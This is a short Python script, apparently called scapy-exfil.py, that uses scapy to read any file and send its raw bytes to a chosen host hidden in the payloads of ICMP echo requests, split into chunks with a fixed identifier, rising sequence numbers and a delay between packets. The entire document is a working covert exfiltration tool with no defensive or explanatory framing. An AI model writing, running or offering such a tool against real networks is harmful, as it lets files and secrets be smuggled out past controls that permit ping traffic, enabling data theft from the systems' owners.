#!/usr/bin/python3
"""Sends a file's raw bytes in ICMP echo requests with scapy: one identifier, sequence 1, 2, ...

Root only.   scapy-exfil.py [--chunk N] [--delay S] [--ident N] HOST FILE
"""
import argparse
import time

from scapy.all import ICMP, IP, Raw, conf, send


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--chunk", type=int, default=48)
    ap.add_argument("--delay", type=float, default=0.05)
    ap.add_argument("--ident", type=lambda v: int(v, 0), default=0x4D2)
    ap.add_argument("host")
    ap.add_argument("file")
    a = ap.parse_args()
    conf.verb = 0
    data = open(a.file, "rb").read()
    chunks = [data[i:i + a.chunk] for i in range(0, len(data), a.chunk)]
    for seq, chunk in enumerate(chunks, 1):
        send(IP(dst=a.host) / ICMP(type=8, id=a.ident, seq=seq) / Raw(chunk))
        time.sleep(a.delay)
    print(f"sent {len(data)} bytes of {a.file} in {len(chunks)} requests")


if __name__ == "__main__":
    main()
